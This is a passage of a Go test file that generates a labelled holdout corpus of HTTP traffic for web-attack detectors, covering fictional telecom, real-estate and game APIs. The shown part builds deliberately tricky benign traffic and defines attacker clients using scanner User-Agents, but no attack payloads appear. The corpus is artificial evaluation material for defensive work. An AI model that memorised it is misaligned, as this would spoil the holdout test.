// Holdout corpus 6 ("holdout6"): an independent labelled test corpus for the
// eight stateless technique detectors, written from docs/detect.md and
// docs/traffic-format.md only (no detector source, no other corpus read).
//
// Three APIs:
//   - api.relaytel.test: a telecom messaging and voice API (SMS, numbers, call
//     records, carrier lookups, delivery-receipt webhooks from carriers);
//   - api.homestead.test: real-estate listings and mortgage applications
//     (HTML listing descriptions, photos, applicant documents, credit checks,
//     XML feeds from agencies);
//   - api.nebulaplay.test: a multiplayer game backend (players, matches,
//     leaderboards, inventories, chat, a GraphQL gateway, admin tools).
//
// Benign traffic is made hard on purpose (multilingual SMS, templated texts,
// phone numbers, ICCIDs and IMEIs, HTML descriptions, NoSQL-style filters,
// game chat slang, public callback URLs, masked cards, publishable keys,
// presigned URLs, OAuth token responses, expired tokens answered 401). Each
// benign user keeps one User-Agent and one or two client networks.
//
// Regenerate with:
//
//	go test ./detect/ -run TestHoldout6Generate -update-holdout6
package detect_test

import (
	"bytes"
	"crypto/hmac"
	"crypto/sha256"
	"encoding/base64"
	"encoding/json"
	"flag"
	"fmt"
	"math/rand/v2"
	"net/url"
	"path/filepath"
	"sort"
	"strings"
	"testing"
	"time"
	"unicode/utf8"
)

var updateHoldout6 = flag.Bool("update-holdout6", false, "rewrite detect/testdata/holdout6 from its generator")

const (
	h6Tel  = "api.relaytel.test"
	h6Home = "api.homestead.test"
	h6Game = "api.nebulaplay.test"

	h6SQLi  = "detect.injection.sqli"
	h6XSS   = "detect.injection.xss"
	h6Other = "detect.injection.other"
	h6SSRF  = "detect.ssrf"
	h6JWT   = "detect.auth.jwt"
	h6Verb  = "detect.misconfig.verbose"
	h6Sens  = "detect.exposure.sensitive"
	h6Lim   = "detect.resource.limits"
)

var h6Base = time.Date(2026, 11, 24, 9, 0, 0, 0, time.UTC)

var h6Key = []byte("holdout6-fixed-hs256-key-not-a-real-secret")

// h6Line is one exchange in the JSON-lines traffic format.
type h6Line struct {
	ID         string      `json:"id"`
	Time       string      `json:"time"`
	Client     h6Client    `json:"client"`
	Request    h6Msg       `json:"request"`
	Response   *h6Response `json:"response,omitempty"`
	DurationMS float64     `json:"duration_ms"`
}

type h6Client struct {
	Addr string `json:"addr"`
	TLS  *h6TLS `json:"tls,omitempty"`
}

type h6TLS struct {
	Version    string `json:"version"`
	ServerName string `json:"server_name"`
	ALPN       string `json:"alpn"`
}

type h6Msg struct {
	Method       string            `json:"method"`
	URL          string            `json:"url"`
	Proto        string            `json:"proto"`
	Headers      map[string]string `json:"headers"`
	Body         string            `json:"body"`
	BodyEncoding string            `json:"body_encoding,omitempty"`
	BodySize     int64             `json:"body_size"`
	Truncated    bool              `json:"truncated,omitempty"`
}

type h6Response struct {
	Status       int               `json:"status"`
	Proto        string            `json:"proto"`
	Headers      map[string]string `json:"headers"`
	Body         string            `json:"body"`
	BodyEncoding string            `json:"body_encoding,omitempty"`
	BodySize     int64             `json:"body_size"`
}

// h6User is a client: a benign user or an attacker.
type h6User struct {
	sub, role, host, ua string
	ips                 []string
	token               string
	acct                string // telecom account id
	handle              string
}

// h6X is one exchange before it gets its id and time.
type h6X struct {
	u        *h6User
	method   string
	url      string
	hdr      map[string]string
	body     string
	reqSize  int64
	status   int
	rhdr     map[string]string
	rbody    string
	labels   []string
	noAuth   bool
	authHdr  string // overrides the user's token when set
	ipIdx    int
	duration float64
}

type h6Gen struct {
	r       *rand.Rand
	benign  []*h6X
	attacks []*h6X
}

func h6B64(b []byte) string { return base64.RawURLEncoding.EncodeToString(b) }

func h6JSONOf(v any) string {
	var buf bytes.Buffer
	enc := json.NewEncoder(&buf)
	enc.SetEscapeHTML(false)
	if err := enc.Encode(v); err != nil {
		panic(err)
	}
	return strings.TrimRight(buf.String(), "\n")
}

// h6Sign makes an HS256 JWT with the fixed key.
func h6Sign(header, claims map[string]any) string {
	s := h6B64([]byte(h6JSONOf(header))) + "." + h6B64([]byte(h6JSONOf(claims)))
	m := hmac.New(sha256.New, h6Key)
	m.Write([]byte(s))
	return s + "." + h6B64(m.Sum(nil))
}

func h6Claims(sub, role, aud string) map[string]any {
	return map[string]any{
		"iss": "https://auth." + strings.TrimPrefix(aud, "api."), "sub": sub, "aud": aud, "role": role,
		"iat": h6Base.Add(-2 * time.Hour).Unix(), "nbf": h6Base.Add(-2 * time.Hour).Unix(),
		"exp": h6Base.Add(30 * 24 * time.Hour).Unix(),
	}
}

func h6ValidToken(sub, role, aud string) string {
	return h6Sign(map[string]any{"alg": "HS256", "typ": "JWT", "kid": "2026-11-key_1"}, h6Claims(sub, role, aud))
}

func (g *h6Gen) pick(xs []string) string { return xs[g.r.IntN(len(xs))] }

func (g *h6Gen) digits(n int) string {
	b := make([]byte, n)
	for i := range b {
		b[i] = byte('0' + g.r.IntN(10))
	}
	return string(b)
}

func (g *h6Gen) alnum(n int, alphabet string) string {
	b := make([]byte, n)
	for i := range b {
		b[i] = alphabet[g.r.IntN(len(alphabet))]
	}
	return string(b)
}

const (
	h6Hex   = "0123456789abcdef"
	h6AN    = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
	h6Upper = "ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"
	h6B64c  = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
)

// h6Luhn returns a Luhn-valid number of length n starting with prefix.
func (g *h6Gen) h6Luhn(prefix string, n int) string {
	s := prefix + g.digits(n-len(prefix)-1)
	sum := 0
	for i := len(s) - 1; i >= 0; i-- {
		d := int(s[i] - '0')
		if (len(s)-1-i)%2 == 0 {
			d *= 2
			if d > 9 {
				d -= 9
			}
		}
		sum += d
	}
	return s + string(byte('0'+(10-sum%10)%10))
}

// h6NotLuhn returns a number of length n starting with prefix that fails Luhn.
func (g *h6Gen) h6NotLuhn(prefix string, n int) string {
	s := g.h6Luhn(prefix, n)
	last := s[len(s)-1]
	return s[:len(s)-1] + string(byte('0'+(int(last-'0')+3)%10))
}

func h6Q(kv ...string) string {
	var parts []string
	for i := 0; i+1 < len(kv); i += 2 {
		parts = append(parts, url.QueryEscape(kv[i])+"="+url.QueryEscape(kv[i+1]))
	}
	return strings.Join(parts, "&")
}

func h6Form(kv ...string) string { return h6Q(kv...) }

func h6XMLEsc(s string) string {
	var b strings.Builder
	for _, c := range s {
		switch c {
		case '<':
			b.WriteString("&lt;")
		case '>':
			b.WriteString("&gt;")
		case '&':
			b.WriteString("&amp;")
		case '\'':
			b.WriteString("&apos;")
		case '"':
			b.WriteString("&quot;")
		default:
			b.WriteRune(c)
		}
	}
	return b.String()
}

func h6Multipart(boundary string, parts ...[3]string) string {
	// each part: name, filename ("" for a field), content; content type guessed.
	var b strings.Builder
	for _, p := range parts {
		b.WriteString("--" + boundary + "\r\n")
		if p[1] == "" {
			b.WriteString(`Content-Disposition: form-data; name="` + p[0] + "\"\r\n\r\n")
		} else {
			ct := "application/octet-stream"
			switch {
			case strings.HasSuffix(p[1], ".pdf"):
				ct = "application/pdf"
			case strings.HasSuffix(p[1], ".jpg"):
				ct = "image/jpeg"
			case strings.HasSuffix(p[1], ".svg"):
				ct = "image/svg+xml"
			case strings.HasSuffix(p[1], ".xml"):
				ct = "application/xml"
			case strings.HasSuffix(p[1], ".html"):
				ct = "text/html"
			}
			b.WriteString(`Content-Disposition: form-data; name="` + p[0] + `"; filename="` + p[1] + "\"\r\nContent-Type: " + ct + "\r\n\r\n")
		}
		b.WriteString(p[2] + "\r\n")
	}
	b.WriteString("--" + boundary + "--\r\n")
	return b.String()
}

func (g *h6Gen) add(list *[]*h6X, x *h6X) {
	if x.duration == 0 {
		x.duration = float64(8+g.r.IntN(180)) + float64(g.r.IntN(10))/10
	}
	*list = append(*list, x)
}

func (g *h6Gen) ok(u *h6User, method, path string, hdr map[string]string, body string, status int, rbody string) *h6X {
	return &h6X{u: u, method: method, url: "https://" + u.host + path, hdr: hdr, body: body, status: status, rbody: rbody, ipIdx: g.r.IntN(len(u.ips))}
}

func (g *h6Gen) benignX(x *h6X)              { g.add(&g.benign, x) }
func (g *h6Gen) attackX(x *h6X, l ...string) { x.labels = l; g.add(&g.attacks, x) }

func h6JSONH() map[string]string { return map[string]string{"Content-Type": "application/json"} }

func h6RespHeaders(host, ct string) map[string]string {
	return map[string]string{
		"Content-Type":              ct,
		"Cache-Control":             "no-store",
		"X-Content-Type-Options":    "nosniff",
		"Strict-Transport-Security": "max-age=31536000; includeSubDomains",
		"Server":                    map[string]string{h6Tel: "envoy", h6Home: "nginx", h6Game: "nebula-edge"}[host],
	}
}

func (g *h6Gen) render(t *testing.T) ([]byte, []byte) {
	// merge: the first 220 exchanges are benign (learning), then attacks are
	// spread over the rest in a seeded order.
	var all []*h6X
	b, a := g.benign, g.attacks
	all = append(all, b[:220]...)
	b = b[220:]
	for len(b) > 0 || len(a) > 0 {
		if len(a) > 0 && (len(b) == 0 || g.r.IntN(len(a)+len(b)) < len(a)) {
			all = append(all, a[0])
			a = a[1:]
		} else {
			all = append(all, b[0])
			b = b[1:]
		}
	}
	var traffic, labels bytes.Buffer
	tm := h6Base
	for i, x := range all {
		tm = tm.Add(time.Duration(2000+g.r.IntN(9000)) * time.Millisecond)
		id := fmt.Sprintf("w%05d", i+1)
		u, err := url.Parse(x.url)
		if err != nil {
			t.Fatalf("%s: %v", x.url, err)
		}
		hdr := map[string]string{"Host": u.Host, "Accept": "application/json"}
		if x.u.ua != "" {
			hdr["User-Agent"] = x.u.ua
		}
		if !x.noAuth {
			tok := x.u.token
			if x.authHdr != "" {
				tok = x.authHdr
			}
			if tok != "" {
				hdr["Authorization"] = "Bearer " + tok
			}
		}
		for k, v := range x.hdr {
			if v == "" {
				delete(hdr, k)
				continue
			}
			hdr[k] = v
		}
		req := h6Msg{Method: x.method, URL: x.url, Proto: "HTTP/2.0", Headers: hdr, Body: x.body, BodySize: int64(len(x.body))}
		if x.reqSize > 0 {
			req.BodySize = x.reqSize
			req.Truncated = true
		}
		if !utf8.ValidString(x.body) {
			req.Body = base64.StdEncoding.EncodeToString([]byte(x.body))
			req.BodyEncoding = "base64"
		}
		ct := "application/json"
		rb := x.rbody
		if strings.HasPrefix(rb, "<") {
			ct = "text/html; charset=utf-8"
		}
		rh := h6RespHeaders(u.Hostname(), ct)
		rh["Date"] = tm.Add(time.Duration(x.duration) * time.Millisecond).Format("Mon, 02 Jan 2006 15:04:05 GMT")
		rh["X-Request-Id"] = fmt.Sprintf("%08x-%04x-4%03x-a%03x-%012x", g.r.Uint32(), g.r.IntN(65536), g.r.IntN(4096), g.r.IntN(4096), g.r.Uint64()&0xffffffffffff)
		for k, v := range x.rhdr {
			if v == "" {
				delete(rh, k)
				continue
			}
			rh[k] = v
		}
		if rb == "" {
			delete(rh, "Content-Type")
		}
		resp := &h6Response{Status: x.status, Proto: "HTTP/2.0", Headers: rh, Body: rb, BodySize: int64(len(rb))}
		line := h6Line{ID: id, Time: tm.Format("2006-01-02T15:04:05.000Z"),
			Client:   h6Client{Addr: fmt.Sprintf("%s:%d", x.u.ips[x.ipIdx%len(x.u.ips)], 30000+g.r.IntN(35000)), TLS: &h6TLS{Version: "1.3", ServerName: u.Hostname(), ALPN: "h2"}},
			Request:  req,
			Response: resp, DurationMS: x.duration}
		traffic.WriteString(h6JSONOf(line) + "\n")
		l := append([]string{}, x.labels...)
		sort.Strings(l)
		labels.WriteString(h6JSONOf(struct {
			ID        string   `json:"id"`
			Detectors []string `json:"detectors"`
		}{id, l}) + "\n")
	}
	return traffic.Bytes(), labels.Bytes()
}

func TestHoldout6Generate(t *testing.T) {
	g := &h6Gen{r: rand.New(rand.NewPCG(6, 0x401d6))}
	w := g.world()
	g.benignTraffic(w)
	g.attackTraffic(w)
	traffic, labels := g.render(t)
	counts := map[string]int{}
	nb := 0
	for _, x := range g.attacks {
		for _, l := range x.labels {
			counts[l]++
		}
	}
	nb = len(g.benign)
	t.Logf("total %d benign %d attacks %d %v", len(g.benign)+len(g.attacks), nb, len(g.attacks), counts)
	writeOrCheckCorpus(t, filepath.Join("testdata", "holdout6"), *updateHoldout6, "go test ./detect/ -run TestHoldout6Generate -update-holdout6", traffic, labels)
}

type h6World struct {
	devs, buyers, agents, underwriters, players, admins []*h6User
	carriers, visitors                                  []*h6User
	atkTel, atkHome, atkGame                            []*h6User
}

var h6Prefixes = []string{"81.2.69", "92.40.177", "86.134.12", "73.162.88", "24.48.201", "2.204.61", "31.16.113", "95.91.210",
	"176.182.45", "109.190.7", "151.38.90", "79.120.44", "187.55.213", "177.92.6", "49.36.121", "117.211.30",
	"126.77.19", "153.202.88", "211.234.101", "58.120.17", "41.90.66", "102.89.34", "5.195.72", "94.205.140",
	"201.160.9", "189.203.11", "212.58.244", "62.45.190", "84.241.197", "188.146.51"}

func (g *h6Gen) ip() string { return fmt.Sprintf("%s.%d", g.pick(h6Prefixes), 2+g.r.IntN(250)) }

func (g *h6Gen) user(host, sub, role, ua string, nets int) *h6User {
	u := &h6User{sub: sub, role: role, host: host, ua: ua}
	for i := 0; i < nets; i++ {
		u.ips = append(u.ips, g.ip())
	}
	if role != "" {
		u.token = h6ValidToken(sub, role, host)
	}
	return u
}

func (g *h6Gen) world() *h6World {
	w := &h6World{}
	devUAs := []string{"relaytel-python/7.2.1 (Python 3.12.4; Linux x86_64)", "relaytel-node/5.0.3 node/20.11.1 (darwin arm64)",
		"curl/8.5.0", "okhttp/4.12.0", "relaytel-go/2.9.0 (go1.23.4; linux/amd64)", "relaytel-php/6.1.0 (PHP 8.3.9)",
		"Java/21.0.3 relaytel-java/10.4.2", "relaytel-ruby/5.3.1 (ruby 3.3.5)", "PostmanRuntime/7.42.0", "relaytel-dotnet/7.0.0 (.NET 8.0.8)"}
	for i := 0; i < 24; i++ {
		u := g.user(h6Tel, fmt.Sprintf("dev_%04d", 1100+i*37), "developer", devUAs[i%len(devUAs)], 1+i%2)
		u.acct = "AC" + g.alnum(32, h6Hex)
		w.devs = append(w.devs, u)
	}
	browsers := []string{"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
		"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
		"Homestead/4.18.2 (iPhone; iOS 18.1; Scale/3.00)", "Homestead/4.18.0 (Android 14; Pixel 8)",
		"Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
		"Mozilla/5.0 (iPad; CPU OS 17_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Mobile/15E148 Safari/604.1"}
	for i := 0; i < 30; i++ {
		w.buyers = append(w.buyers, g.user(h6Home, fmt.Sprintf("usr_%06d", 420000+i*113), "applicant", browsers[i%len(browsers)], 1+i%2))
	}
	for i := 0; i < 8; i++ {
		w.agents = append(w.agents, g.user(h6Home, fmt.Sprintf("agt_%04d", 310+i), "agent", browsers[(i+1)%2], 1))
	}
	for i := 0; i < 3; i++ {
		w.underwriters = append(w.underwriters, g.user(h6Home, fmt.Sprintf("uw_%03d", 7+i), "underwriter", browsers[0], 1))
	}
	gameUAs := []string{"NebulaClient/1.42.0 (Windows 10; x64) UnityPlayer/2022.3.21f1", "NebulaClient/1.42.0 (Android 14; SM-S918B)",
		"NebulaClient/1.42.0 (iOS 18.1; iPhone15,3)", "NebulaClient/1.41.7 (Windows 11; x64) UnityPlayer/2022.3.21f1",
		"NebulaClient/1.42.0 (PlayStation 5; 24.06)", "NebulaClient/1.42.0 (Linux; SteamOS 3.6)", "NebulaClient/1.42.0 (Nintendo Switch; 18.1.0)"}
	handles := []string{"xX_Sn1per_Xx", "DropBear", "O'Malley", "kitsune_07", "ＭｏｏｎＬｉｔ", "Ñandú", "select_all_69", "Λάμδα", "Бублик",
		"桜吹雪", "noob_slayer", "GG_EZ", "l33t_h4x0r", "Zoë", "TheUnionJack", "ping_999", "drop_tableau", "小龍", "MaxPower", "ctrl_alt_defeat",
		"Renée", "BR0KEN", "sudo_sandwich", "pwnstar", "A.L.I.C.E", "mr.robot", "kaboom!!", "<3hugs", "tarnished", "vasquez"}
	for i := 0; i < 30; i++ {
		u := g.user(h6Game, fmt.Sprintf("plr_%08d", 58000000+i*7919), "player", gameUAs[i%len(gameUAs)], 1+i%2)
		u.handle = handles[i]
		w.players = append(w.players, u)
	}
	for i := 0; i < 3; i++ {
		u := g.user(h6Game, fmt.Sprintf("gm_%03d", 1+i), "admin", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 NebulaAdmin/3.2", 1)
		w.admins = append(w.admins, u)
	}
	for i := 0; i < 4; i++ {
		u := g.user(h6Tel, "", "", []string{"Kannel/1.5.0", "CarrierGW-DLR/2.3", "smsc-relay/4.1 (+https://smsc.vodafone.example)", "jasmin/0.10.12"}[i], 1)
		w.carriers = append(w.carriers, u)
	}
	for i := 0; i < 14; i++ {
		w.visitors = append(w.visitors, g.user(h6Home, "", "", browsers[i%len(browsers)], 1))
	}
	atkUAs := []string{"sqlmap/1.8.4#stable (https://sqlmap.org)", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36",
		"python-requests/2.31.0", "curl/8.4.0", "Go-http-client/1.1", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/128.0.0.0 Safari/537.36",
		"Wfuzz/3.1.0", "Mozilla/5.0 (compatible; Nuclei/3.2.9)"}
	for i := 0; i < 6; i++ {
		u := g.user(h6Tel, fmt.Sprintf("dev_%04d", 9000+i*11), "developer", atkUAs[i%len(atkUAs)], 1)
		u.acct = "AC" + g.alnum(32, h6Hex)
		w.atkTel = append(w.atkTel, u)
		w.atkHome = append(w.atkHome, g.user(h6Home, fmt.Sprintf("usr_%06d", 990000+i*7), "applicant", atkUAs[(i+2)%len(atkUAs)], 1))
		a := g.user(h6Game, fmt.Sprintf("plr_%08d", 99000000+i*13), "player", atkUAs[(i+4)%len(atkUAs)], 1)
		a.handle = fmt.Sprintf("n3w_acc0unt_%d", i)
		w.atkGame = append(w.atkGame, a)
	}
	return w
}

var h6SMS = []string{
	"Your Relaytel verification code is %CODE%. It expires in 10 minutes. Don't share it with anyone.",
	"Hi {{first_name}}, your table for {{party_size}} at Osteria Lupa is confirmed for {{time}}. Reply STOP to opt out.",
	"Votre colis arrive demain entre 9h et 12h. Suivi : https://suivi.colisrapide.fr/t/8H2K9Q",
	"Ihr Termin am 03.12. um 14:30 Uhr wurde bestätigt. Absagen? Antworten Sie mit NEIN.",
	"【ネビュラ】認証コードは %CODE% です。10分間有効です。",
	"您的验证码是 %CODE%，5分钟内有效。如非本人操作，请忽略。",
	"رمز التحقق الخاص بك هو %CODE%. لا تشاركه مع أي شخص.",
	"Ваш код подтверждения: %CODE%. Никому не сообщайте его.",
	"आपका OTP %CODE% है। यह 5 मिनट के लिए मान्य है।",
	"Olá! Seu pedido #48213 saiu para entrega 🚚 Acompanhe pelo app.",
	"Γεια σας, η πληρωμή σας των 45,00 € ελήφθη. Ευχαριστούμε!",
	"Reminder: Union Station pickup at 5:15 -- look for the blue van. Select your seat on arrival.",
	"Flash sale!!! 50% off -- today only. Drop by the store or order at https://shop.brightlane.co.uk/sale",
	"Select 1 for English, 2 para Español. Reply HELP for help.",
	"O'Connor & Sons Plumbing: your engineer is 15 min away.",
	"Payment of ${amount} received for invoice %s. Thank you!",
	"Your balance is £12.40. Top up: dial *123# or text TOPUP 10 to 80080.",
	"Hey, it's Sam 😊 running late, order me a flat white? <3",
	"Alert: disk /var/lib/postgresql 91% full on db-02. Reply ACK 4417 to acknowledge.",
	"Tu cita en Clínica Dental Sonrisa es el 04/12 a las 10:00. Responde SI para confirmar.",
	"Kode OTP Anda %CODE%. Jangan berikan kode ini kepada siapa pun.",
	"שלום! ההזמנה שלך מוכנה לאיסוף.",
	"안녕하세요! 인증번호는 [%CODE%] 입니다.",
	"Drop off keys at reception; cat & dog both fed. See you Sunday!",
	"Dear customer, your bill of R$ 89,90 is due on 10/12. Pay via Pix: chave 12.345.678/0001-90",
	"Rain delay: kickoff moved to 7:30pm. Gates open 6pm. #GoCity",
	"Your driver Priya (Toyota Prius, KX21 ABC) has arrived 🚗",
	"Hi %NAME%! Order <b>shipped</b> — track: https://trk.parcelnow.de/%CODE%",
	"Appointment 2 > appointment 1? No: reply 1 to keep Tue, 2 to move to Wed.",
	"Mensaje de {company}: su factura {0} vence el {1}.",
	"Your one-time passcode: %CODE%\n\nIf you didn't request this, call us on 0800 123 4567.",
	"Cảm ơn bạn đã đặt hàng! Mã đơn: VN-%CODE%",
	"Merhaba, randevunuz yarın 09:00'da. İptal için IPTAL yazın.",
	"Tack! Din beställning #55120 är skickad.",
	"Use code WINTER25 at checkout -- select 'apply promo' (T&Cs apply)",
	"Hello {{ customer.name | default('there') }}, your plan renews on {{ renew_date }}.",
}

var h6Phones = []string{"+447700900123", "+447700900456", "+14155550123", "+12025550178", "+4915112345678", "+81312345678", "+33612345678",
	"+5511987654321", "+919812345678", "+971501234567", "+79161234567", "+821012345678", "+61412345678", "+27821234567", "+5215512345678",
	"+34612345678", "+390612345678", "+6591234567", "+8613812345678", "+2348031234567"}

var h6Carriers = [][3]string{{"Vodafone UK", "234", "15"}, {"EE", "234", "30"}, {"T-Mobile USA", "310", "260"}, {"Verizon Wireless", "311", "480"},
	{"Telekom Deutschland", "262", "01"}, {"NTT docomo", "440", "10"}, {"Orange France", "208", "01"}, {"Vivo", "724", "06"},
	{"Jio", "405", "857"}, {"Etisalat", "424", "02"}, {"MTS", "250", "01"}, {"SK Telecom", "450", "05"}}

func (g *h6Gen) sms() string {
	s := g.pick(h6SMS)
	s = strings.ReplaceAll(s, "%CODE%", g.digits(6))
	s = strings.ReplaceAll(s, "%NAME%", g.pick([]string{"Amara", "José", "Siobhán", "Łukasz", "Mei", "Ngozi", "Björn"}))
	return s
}

func (g *h6Gen) sid(p string) string { return p + g.alnum(32, h6Hex) }

func (g *h6Gen) telBenign(w *h6World, n int) {
	for i := 0; i < n; i++ {
		u := w.devs[g.r.IntN(len(w.devs))]
		acct := "/v2/accounts/" + u.acct
		switch k := g.r.IntN(20); {
		case k < 5:
			to := g.pick(h6Phones)
			body := g.sms()
			req := map[string]any{"to": to, "from": g.pick([]string{"+447700900999", "NEBULA", "Relaytel", "+14155550100", "MG" + g.alnum(32, h6Hex)}), "body": body}
			if g.r.IntN(2) == 0 {
				req["status_callback"] = g.pick([]string{"https://hooks.brightlane.co.uk/sms/status", "https://api.clinica-sonrisa.es/webhooks/relaytel",
					"https://34.120.55.10/dlr", "https://dlr.parcelnow.de/v1/relaytel?tenant=de-17", "https://europe-west1-acme-notify.cloudfunctions.net/smsStatus"})
			}
			if g.r.IntN(3) == 0 {
				req["validity_period"] = 3600
				req["tags"] = []string{"otp", "signup"}
			}
			sid := g.sid("SM")
			g.benignX(g.ok(u, "POST", acct+"/messages", h6JSONH(), h6JSONOf(req), 201, h6JSONOf(map[string]any{
				"sid": sid, "account_sid": u.acct, "to": to, "body": body, "status": "queued", "num_segments": 1 + utf8.RuneCountInString(body)/70,
				"price": nil, "date_created": h6Base.Format(time.RFC3339), "uri": acct + "/messages/" + sid})))
		case k < 7:
			q := h6Q("page_size", g.pick([]string{"20", "50", "100", "500", "1000"}), "to", g.pick(h6Phones), "date_sent_after", "2026-11-01")
			var items []map[string]any
			for j := 0; j < 3; j++ {
				items = append(items, map[string]any{"sid": g.sid("SM"), "to": g.pick(h6Phones), "status": g.pick([]string{"delivered", "undelivered", "sent"}), "error_code": nil, "body": g.sms()})
			}
			g.benignX(g.ok(u, "GET", acct+"/messages?"+q, nil, "", 200, h6JSONOf(map[string]any{"messages": items, "page": 0, "next_page_uri": acct + "/messages?page=1&page_token=PA" + g.alnum(24, h6AN)})))
		case k < 8:
			sid := g.sid("SM")
			g.benignX(g.ok(u, "GET", acct+"/messages/"+sid, nil, "", 200, h6JSONOf(map[string]any{"sid": sid, "status": "delivered", "to": g.pick(h6Phones), "price": "-0.0415", "price_unit": "GBP", "error_message": nil})))
		case k < 10:
			ph := g.pick(h6Phones)
			c := h6Carriers[g.r.IntN(len(h6Carriers))]
			g.benignX(g.ok(u, "GET", "/v2/lookup/"+url.PathEscape(ph)+"?"+h6Q("fields", "carrier,line_type,caller_name"), nil, "", 200, h6JSONOf(map[string]any{
				"phone_number": ph, "national_format": ph[len(ph)-10:], "country_code": "GB", "carrier": map[string]any{"name": c[0], "mobile_country_code": c[1], "mobile_network_code": c[2], "type": "mobile"},
				"ported": g.r.IntN(2) == 0, "caller_name": map[string]any{"caller_name": g.pick([]string{"O'BRIEN, SEAN", "SELECT LIMOUSINES LTD", "UNION BAKERY", "NGUYEN THI"}), "caller_type": "CONSUMER"}})))
		case k < 11:
			g.benignX(g.ok(u, "GET", "/v2/numbers/available?"+h6Q("country", g.pick([]string{"GB", "US", "DE", "JP"}), "contains", g.pick([]string{"777", "2026", "*55*", "CAFE"}), "limit", g.pick([]string{"20", "50", "200"})), nil, "", 200,
				h6JSONOf(map[string]any{"available_phone_numbers": []map[string]any{{"phone_number": g.pick(h6Phones), "capabilities": map[string]bool{"sms": true, "voice": true, "mms": false}, "monthly_price": "1.15"}}})))
		case k < 12:
			// SIM inventory: ICCIDs and IMEIs (Luhn-valid, not cards)
			var sims []map[string]any
			for j := 0; j < 4; j++ {
				sims = append(sims, map[string]any{"iccid": g.h6Luhn("8944"+g.digits(2), 20), "imsi": "234" + "15" + g.digits(10),
					"imei": g.h6Luhn(g.pick([]string{"86", "35"}), 15), "msisdn": g.pick(h6Phones), "status": g.pick([]string{"active", "suspended", "ready"}), "data_used_bytes": g.r.IntN(900000000)})
			}
			g.benignX(g.ok(u, "GET", acct+"/sims?"+h6Q("status", "active", "per_page", "100"), nil, "", 200, h6JSONOf(map[string]any{"sims": sims, "meta": map[string]any{"page": 1, "per_page": 100, "total": 4}})))
		case k < 14:
			csid := g.sid("CA")
			g.benignX(g.ok(u, "GET", acct+"/calls?"+h6Q("per_page", g.pick([]string{"50", "100", "250"}), "status", "completed", "start_time>", "2026-11-20"), nil, "", 200, h6JSONOf(map[string]any{"calls": []map[string]any{{
				"sid": csid, "from": g.pick(h6Phones), "to": g.pick([]string{"sip:alice@pbx.brightlane.co.uk", g.pick(h6Phones), "client:agent_42"}), "duration": g.r.IntN(900),
				"direction": "outbound-api", "answered_by": "human", "price": "-0.0130", "recording_sid": g.sid("RE")}}})))
		case k < 15:
			rsid := g.sid("RE")
			g.benignX(g.ok(u, "GET", acct+"/recordings/"+rsid, nil, "", 200, h6JSONOf(map[string]any{"sid": rsid, "duration": 184, "channels": 2,
				"media_url": "https://relaytel-recordings-eu.s3.eu-west-1.amazonaws.com/" + u.acct + "/" + rsid + ".wav?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=ASIAZ6XQ3JWEXAMPLEAB%2F20261124%2Feu-west-1%2Fs3%2Faws4_request&X-Amz-Date=20261124T090000Z&X-Amz-Expires=300&X-Amz-SignedHeaders=host&X-Amz-Signature=" + g.alnum(64, h6Hex),
				"sha256":    g.alnum(64, h6Hex), "encryption": "none"})))
		case k < 16:
			body := map[string]any{"url": g.pick([]string{"https://hooks.brightlane.co.uk/relaytel/inbound", "https://n8n.clinica-sonrisa.es/webhook/7b1d2c9e-4a8f-4c1e-9b0d-2f3a5e6c7d8a", "https://api.parcelnow.de/relaytel/events"}),
				"events": []string{"message.delivered", "message.failed", "call.completed"}, "description": "DLR -> CRM (prod)"}
			g.benignX(g.ok(u, "PUT", acct+"/webhooks/wh_"+g.alnum(12, h6AN), h6JSONH(), h6JSONOf(body), 200, h6JSONOf(map[string]any{"id": "wh_" + g.alnum(12, h6AN), "url": body["url"], "active": true, "secret_hint": "…" + g.alnum(4, h6Hex)})))
		case k < 17:
			tpl := g.pick([]string{"Hi {{first_name}}, your code is {{code}}", "Total: ${price} due {{due_date | date('d/m')}}", "Hola %s, tu cita es el %s", "Your ${service} appointment is at {time}. Reply C to cancel; R to reschedule.",
				"{% if vip %}Thanks for being a VIP, {{first_name}}!{% endif %}", "Dear [[customer_name]], ticket #[[ticket_id]] was updated."})
			g.benignX(g.ok(u, "POST", acct+"/templates", h6JSONH(), h6JSONOf(map[string]any{"name": "tpl_" + g.alnum(6, "abcdefghijklmnop"), "locales": []map[string]any{{"lang": g.pick([]string{"en", "es", "de", "ja"}), "body": tpl}}}), 201,
				h6JSONOf(map[string]any{"id": "TP" + g.alnum(32, h6Hex), "status": "pending_review"})))
		case k < 18:
			// carrier delivery receipt (anonymous, HMAC-signed)
			c := w.carriers[g.r.IntN(len(w.carriers))]
			x := g.ok(c, "POST", "/carrier/dlr", map[string]string{"Content-Type": "application/x-www-form-urlencoded", "X-Carrier-Signature": "t=" + fmt.Sprint(h6Base.Unix()) + ",v1=" + g.alnum(64, h6Hex), "Accept": ""},
				h6Form("MessageSid", g.sid("SM"), "MessageStatus", g.pick([]string{"delivered", "undelivered", "failed"}), "ErrorCode", g.pick([]string{"0", "30003", "30005"}), "To", g.pick(h6Phones), "SmscTimestamp", "2611240912", "Imsi", "23415"+g.digits(10)), 204, "")
			g.benignX(x)
		case k < 19:
			// expired token refused
			x := g.ok(u, "GET", acct+"/usage?"+h6Q("period", "2026-11"), nil, "", 401, `{"error":"invalid_token","error_description":"The access token expired"}`)
			cl := h6Claims(u.sub, "developer", h6Tel)
